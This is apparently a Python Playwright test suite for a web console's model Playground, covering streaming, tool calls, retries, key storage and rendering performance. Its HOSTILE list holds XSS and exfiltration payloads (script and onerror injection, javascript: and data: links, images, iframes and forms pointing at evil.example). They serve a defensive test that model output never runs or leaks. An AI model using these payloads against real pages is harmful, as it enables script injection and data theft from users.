"""The Playground in Chromium: an answer streams in, tools wait for the client, nothing of a model's output runs."""

import json
from typing import Any

import pytest
from playwright.async_api import Page, expect

from tests.console.conftest import OpenPage
from tests.console.main_thread import Tasks, traced
from tests.support.servers.serving import serving

pytestmark = pytest.mark.console

HOSTILE = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "<svg onload=\"document.title='owned'\"><a href='javascript:1'>x</a></svg>",
    "![pixel](https://evil.example/pixel.png?leak=1)",
    "[link](javascript:document.title='owned')",
    "[data](data:text/html,<script>document.title='owned'</script>)",
    "<iframe src='https://evil.example'></iframe><style>@import 'https://evil.example/x.css'</style>",
    "<form action='https://evil.example'><input name=q></form>",
    "| <b onmouseover=alert(1)>x</b> |\n|---|\n| ![a](//evil.example/b.png) |",
    "<math><mi xlink:href='javascript:1'>z</mi></math>",
]
FUNCTION = [{"name": "get_weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}]


def scripted(*turns: list[dict[str, Any]]) -> dict[str, Any]:
    return {"provider": "scripted", "turns": [*turns]}


async def ask(page: Page, text: str) -> None:
    await page.get_by_label("Message").fill(text)
    await page.keyboard.press("Control+Enter")


async def test_an_answer_streams_in_with_its_reasoning_events_usage_and_code(open_page: OpenPage) -> None:
    script = scripted([{"reasoning": "I know them."}, {"text": ["Loire, ", "**Seine**"]}])
    async with serving(script) as served, open_page(f"{served.url}/") as page:
        await page.get_by_role("button", name="Inspect").click()
        await ask(page, "Name two rivers.")
        await expect(page.locator(".markdown strong")).to_have_text("Seine")
        await expect(page.locator(".usage")).to_contain_text("to the first token")
        await expect(page.locator(".event").first).to_contain_text("created")
        await expect(page.locator(".event").last).to_contain_text("completed")
        await page.locator(".reasoning-fold summary").click()
        await expect(page.locator(".thought")).to_contain_text("I know them.")
        await expect(page.locator(".event").first).to_contain_text("output_item.added")
        await page.get_by_role("tab", name="Code").click()
        await expect(page.locator(".inspector pre.code")).to_contain_text("input=[")
        await page.get_by_role("tab", name="curl").click()
        await expect(page.locator(".inspector pre.code")).to_contain_text(f"curl {served.url}/v1/responses")


async def test_a_function_waits_for_its_output_and_the_chain_goes_on(open_page: OpenPage) -> None:
    call = [{"call": "get_weather", "arguments": '{"city": "Paris"}'}]
    async with serving(scripted(call, [{"text": "It is 21 degrees."}])) as served, open_page(f"{served.url}/") as page:
        await page.get_by_role("button", name="Settings").click()
        await page.get_by_label("Functions that you answer").fill(json.dumps(FUNCTION))
        await ask(page, "How warm is it in Paris?")
        await page.get_by_label("Output of get_weather").fill('{"temperature": 21}')
        await page.get_by_role("button", name="Send output").click()
        await expect(page.get_by_text("It is 21 degrees.")).to_be_visible()


async def test_an_error_of_the_model_shows_its_message_and_can_be_tried_again(open_page: OpenPage) -> None:
    script = scripted([{"fail": "The model broke."}], [{"text": "Now it works."}])
    async with serving(script) as served, open_page(f"{served.url}/") as page:
        await ask(page, "Hello")
        await expect(page.get_by_role("alert")).to_contain_text("The model broke.")
        await page.get_by_role("button", name="Try again").click()
        await expect(page.get_by_text("Now it works.")).to_be_visible()


@pytest.mark.parametrize("width", [1360, 380])
async def test_nothing_of_a_models_output_runs_loads_or_leaves(open_page: OpenPage, width: int) -> None:
    arguments = json.dumps({"city": HOSTILE[0]})
    turns = [[{"reasoning": text}, {"text": text}] for text in HOSTILE]
    async with (
        serving(scripted(*turns, [{"call": "get_weather", "arguments": arguments}])) as served,
        open_page(f"{served.url}/", viewport={"width": width, "height": 800}) as page,
    ):
        await page.get_by_role("button", name="Settings").click()
        await page.get_by_label("Functions that you answer").fill(json.dumps(FUNCTION))
        await page.get_by_role("button", name="Settings").click()
        for number in range(len(turns) + 1):
            await ask(page, f"Turn {number}")
            await expect(page.locator(".turn > footer")).to_have_count(number + 1)
        assert "owned" not in await page.title()
        links = await page.locator(".markdown a[href]").evaluate_all("links => links.map((link) => link.href)")
        assert not [link for link in links if not link.startswith(("http:", "https:", "mailto:"))]
        assert await page.locator(".markdown :is(img, iframe, script, form, style)").count() == 0
        overflow = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert overflow <= 0, f"the page is {overflow} px wider than the window"


async def test_a_page_that_is_reloaded_shows_the_stored_response(open_page: OpenPage) -> None:
    async with serving(scripted([{"text": "Kept."}])) as served:
        response = await served.client.responses.create(model="scripted", input="Remember me.")
        async with open_page(f"{served.url}/#/playground?from={response.id}") as page:
            await expect(page.get_by_text("Remember me.")).to_be_visible()
            await page.reload()
            await expect(page.get_by_text("Kept.")).to_be_visible()


async def test_two_models_answer_side_by_side(open_page: OpenPage) -> None:
    async with (
        serving(scripted([{"text": "First."}], [{"text": "Second."}])) as served,
        open_page(f"{served.url}/") as page,
    ):
        await page.get_by_role("button", name="Compare").click()
        await page.get_by_label("Message").first.fill("Compare")
        await page.keyboard.press("Control+Enter")
        await expect(page.get_by_text("First.")).to_be_visible()
        await expect(page.get_by_text("Second.")).to_be_visible()


async def test_the_page_works_by_keyboard_alone(open_page: OpenPage) -> None:
    async with serving(scripted([{"text": "Typed."}])) as served, open_page(f"{served.url}/") as page:
        await page.wait_for_selector(".rail a")
        await page.keyboard.press("?")
        await expect(page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
        await page.keyboard.press("Escape")
        await page.keyboard.press("g")
        await page.keyboard.press("s")
        await expect(page.get_by_role("heading", name="Figures")).to_be_visible()
        await page.keyboard.press("g")
        await page.keyboard.press("p")
        await expect(page.get_by_role("heading", name="Playground")).to_be_visible()


async def test_a_server_with_keys_asks_for_one_and_keeps_it_in_the_tab_alone(open_page: OpenPage) -> None:
    server = {"api_keys": ["sk-secret"], "console": True}
    async with serving(scripted([{"text": "Welcome."}]), server=server) as served, open_page(f"{served.url}/") as page:
        dialog = page.get_by_role("dialog")
        await expect(dialog).to_contain_text("wants an API key")
        await dialog.get_by_label("Key").fill("sk-secret")
        await dialog.get_by_role("button", name="Use this key").click()
        await ask(page, "Hello")
        await expect(page.get_by_text("Welcome.")).to_be_visible()
        assert "sk-secret" not in json.dumps(await page.evaluate("({...localStorage})"))
        assert await page.evaluate("document.cookie") == ""


MARKDOWN = "".join(
    [
        *(f"Paragraph {number} with **weight**.\n\n" for number in range(120)),
        *(f"1. step {number}\n\n   more of it\n\n" for number in range(200)),
        "```python\n\n- no list\n\n" + "x = 1\n\n" * 600 + "```\n\n",
        *(f"- item {number}\n" for number in range(600)),
        "\n> quoted\n\n| a |\n|---|\n| b |\n\nThe end.",
    ]
)
GROW = """
async ([text, step]) => {
  const { chunksOf, growChunks } = await import("/console/parts/markdown.js");
  let grown = { head: "", chunks: [] };
  for (let end = step; end < text.length; end += step) grown = growChunks(grown, text.slice(0, end));
  grown = growChunks(grown, text);
  const other = growChunks(grown, "Another text.");
  return { whole: chunksOf(text), grown: grown.chunks, other: other.chunks };
}
"""


@pytest.mark.parametrize("step", [1, 7, 1000])
async def test_markdown_that_grows_is_cut_where_the_whole_text_is(open_page: OpenPage, step: int) -> None:
    async with serving() as served, open_page(f"{served.url}/") as page:
        cut = await page.evaluate(GROW, [MARKDOWN, step])
    assert cut["grown"] == cut["whole"]
    assert "".join(cut["whole"]) == MARKDOWN
    assert len(cut["whole"]) > 5
    assert max(map(len, cut["whole"])) < 6000
    assert cut["other"] == ["Another text."]


LONG_TEXTS = {
    "paragraphs": ("word ", 40),
    "one paragraph": ("word ", 10_000),
    "one list": ("- an item with `code` and **weight**\n", 10_000),
}
"""By name: the text of each of the 10,000 deltas, and how many of them make a block."""
MOST_MS = 50


async def scroll_events(page: Page) -> None:
    # selectors, since a search by label or role walks through the whole document, in a task of the page
    await page.locator(".events input[type=checkbox]").uncheck()
    await expect(page.locator(".inspector .tabs button").nth(1)).to_have_text("Schema ✓", timeout=60_000)
    for top in (0, 50_000, 100_000, 0):
        await page.locator(".events .list").evaluate("(list, top) => (list.scrollTop = top)", top)
        await page.wait_for_timeout(50)
    assert await page.locator(".event").count() < 200


def check(tasks: Tasks) -> None:
    """Raise AssertionError where one task of the page, its scripts, layout and paint together, took too long."""
    longest = [round(each) for each in tasks.cpu_ms[:5]]
    print(f"longest tasks: {longest} ms of processor time; the machine counts as {tasks.slowdown:.2f} times slower")
    assert tasks.cpu_ms[0] < MOST_MS * tasks.slowdown, longest


@pytest.mark.parametrize("name", LONG_TEXTS)
async def test_ten_thousand_events_keep_the_tasks_of_the_page_short(open_page: OpenPage, name: str) -> None:
    text, block = LONG_TEXTS[name]
    deltas = [text + ("\n\n" if number % block == block - 1 else "") for number in range(10_000)]
    async with serving(scripted([{"text": deltas}])) as served, open_page(f"{served.url}/") as page:
        await expect(page.locator("option")).not_to_have_count(0)
        await page.get_by_role("button", name="Inspect").click()
        async with traced(page) as tasks:
            await ask(page, "Write")
            await expect(page.locator(".turn > footer")).to_have_count(1, timeout=60_000)
            await scroll_events(page)
        check(tasks)


async def test_ten_thousand_stored_events_that_come_at_once_keep_them_short(open_page: OpenPage) -> None:
    deltas = [f"word{number} " + ("\n\n" if number % 40 == 39 else "") for number in range(10_000)]
    async with serving(scripted([{"text": deltas}]), responses={"background": {"poll_s": 0.05}}) as served:
        client = served.client
        response = await client.responses.create(model="scripted", input="Write", background=True)
        async for _ in await client.responses.retrieve(response.id, stream=True):
            pass
        async with open_page(f"{served.url}/#/playground") as page:
            await expect(page.locator("option")).not_to_have_count(0)
            async with traced(page) as tasks:
                await page.evaluate("(id) => { location.hash = `#/responses/${id}`; }", response.id)
                await expect(page.get_by_title("events", exact=True)).to_have_text("10,009", timeout=60_000)
                await scroll_events(page)
            await expect(page.locator(".markdown").last).to_contain_text("word9999")
            check(tasks)
